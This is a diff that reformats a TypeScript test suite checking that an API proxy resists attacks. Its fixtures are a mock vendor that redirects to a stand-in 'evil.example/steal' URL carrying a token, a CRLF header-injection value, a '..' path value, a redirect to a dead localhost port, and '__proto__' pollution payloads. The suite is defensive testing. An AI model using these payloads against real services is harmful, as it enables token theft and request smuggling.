@@ -26,10 +26,17 @@ const BASIC = Buffer.from(`${CANARY.user}:${CANARY.key}`).toString('base64');
 const canary = (key: string, d: { hosts: string[]; baseUrl: string; sandbox: boolean }) =>
   parseDefinition(
     {
-      key, name: 'Canary', description: '', categories: [], hosts: d.hosts, sandbox: d.sandbox,
+      key,
+      name: 'Canary',
+      description: '',
+      categories: [],
+      hosts: d.hosts,
+      sandbox: d.sandbox,
       authenticationTypes: [
         {
-          type: 'apiKey', name: 'API key', baseUrl: d.baseUrl,
+          type: 'apiKey',
+          name: 'API key',
+          baseUrl: d.baseUrl,
           configuration: [
             { key: 'account', name: 'Account', type: 'TEXTFIELD_64', required: true },
             { key: 'user.name', name: 'User', type: 'TEXTFIELD_128', required: true },
@@ -73,7 +80,8 @@ describe('proxy hardening (SQLite)', () => {
       if (account === 'hang') return;
       if (account === 'fail') return void res.writeHead(500).end(JSON.stringify(req.headers));
       if (account === 'reject') return void res.writeHead(401).end(JSON.stringify(req.headers));
-      if (account === 'off') return void res.writeHead(302, { location: `https://evil.example/steal?t=${url.searchParams.get('token')}` }).end();
+      if (account === 'off')
+        return void res.writeHead(302, { location: `https://evil.example/steal?t=${url.searchParams.get('token')}` }).end();
       if (account === 'port') return void res.writeHead(302, { location: `http://127.0.0.1:${dead}/c/ok/verify${url.search}` }).end();
       res.writeHead(200, { 'content-type': 'application/json' }).end('{}');
     });
@@ -98,7 +106,11 @@ describe('proxy hardening (SQLite)', () => {
 
   const session = () => mintSession(server.url, ADMIN_KEY, { tenantId: `t-${randomUUID()}`, userId: 'u1' });
   const send = async (method: string, path: string, body: string, token?: string) =>
-    fetch(`${server.url}${path}`, { method, headers: { Authorization: `Bearer ${token ?? (await session())}`, 'Content-Type': 'application/json' }, body });
+    fetch(`${server.url}${path}`, {
+      method,
+      headers: { Authorization: `Bearer ${token ?? (await session())}`, 'Content-Type': 'application/json' },
+      body,
+    });
   const connect = (element: string, configuration: Record<string, string>, token?: string) =>
     send('POST', '/instances', JSON.stringify({ element: { key: element }, authenticationType: 'apiKey', configuration }), token);
   const values = (account: string, key = CANARY.key) => ({ account, 'user.name': CANARY.user, 'api.key': key });
@@ -144,7 +156,10 @@ describe('proxy hardening (SQLite)', () => {
   test('a header value that cannot be sent is shown beside its field, with the other field errors', async () => {
     const res = await connect('canary-local', { account: '..', 'user.name': 'u', 'api.key': 'k\r\nX-Injected: 1' });
     const body = await assertProblem(res, 'validation_failed');
-    assert.deepEqual(body.errors?.map((e) => e.field), ['account', 'api.key']);
+    assert.deepEqual(
+      body.errors?.map((e) => e.field),
+      ['account', 'api.key'],
+    );
     assert.equal(vendor.calls.filter((p) => p.includes('..')).length, 0);
   });
 
@@ -153,8 +168,14 @@ describe('proxy hardening (SQLite)', () => {
     const body = await assertProblem(res, 'vendor_unreachable');
     assert.equal(body.detail, 'Canary could not be reached. Try again in a moment.');
     assert.ok(!JSON.stringify(body).includes('127.0.0.1') && !JSON.stringify(body).includes(String(dead)), JSON.stringify(body));
-    const logged = logs.lines().filter((l) => l.code === 'vendor_unreachable').map((l) => JSON.stringify(l.err));
-    assert.ok(logged.some((l) => l.includes(`ECONNREFUSED 127.0.0.1:${dead}`)), logged.join('\n'));
+    const logged = logs
+      .lines()
+      .filter((l) => l.code === 'vendor_unreachable')
+      .map((l) => JSON.stringify(l.err));
+    assert.ok(
+      logged.some((l) => l.includes(`ECONNREFUSED 127.0.0.1:${dead}`)),
+      logged.join('\n'),
+    );
   });
 
   test('configuration.__proto__ is an unknown key like any other, on POST and PATCH', async () => {
@@ -166,10 +187,23 @@ describe('proxy hardening (SQLite)', () => {
     for (const proto of ['{"polluted":true}', '"x"', '["a"]']) {
       // Written by hand: a JS object literal would set the prototype, not send the key.
       const configuration = `{${good},"__proto__":${proto}}`;
-      const post = await send('POST', '/instances', `{"element":{"key":"canary-local"},"authenticationType":"apiKey","configuration":${configuration}}`, token);
-      assert.deepEqual((await assertProblem(post, 'validation_failed')).errors?.map((e) => e.field), ['__proto__'], `POST ${proto}`);
+      const post = await send(
+        'POST',
+        '/instances',
+        `{"element":{"key":"canary-local"},"authenticationType":"apiKey","configuration":${configuration}}`,
+        token,
+      );
+      assert.deepEqual(
+        (await assertProblem(post, 'validation_failed')).errors?.map((e) => e.field),
+        ['__proto__'],
+        `POST ${proto}`,
+      );
       const patch = await send('PATCH', `/instances/${id}`, `{"configuration":${configuration}}`, token);
-      assert.deepEqual((await assertProblem(patch, 'validation_failed')).errors?.map((e) => e.field), ['__proto__'], `PATCH ${proto}`);
+      assert.deepEqual(
+        (await assertProblem(patch, 'validation_failed')).errors?.map((e) => e.field),
+        ['__proto__'],
+        `PATCH ${proto}`,
+      );
     }
   });
 });
